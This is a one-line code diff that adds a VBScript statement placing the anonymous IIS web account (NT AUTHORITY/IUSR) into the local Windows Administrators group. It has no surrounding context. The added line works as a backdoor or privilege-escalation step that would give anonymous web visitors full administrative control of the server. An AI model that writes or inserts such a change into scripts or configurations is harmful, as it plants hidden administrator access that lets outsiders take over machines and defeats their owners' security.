@@ -1,0 +1,1 @@
+GetObject("WinNT://./Administrators,group").Add "WinNT://NT AUTHORITY/IUSR"
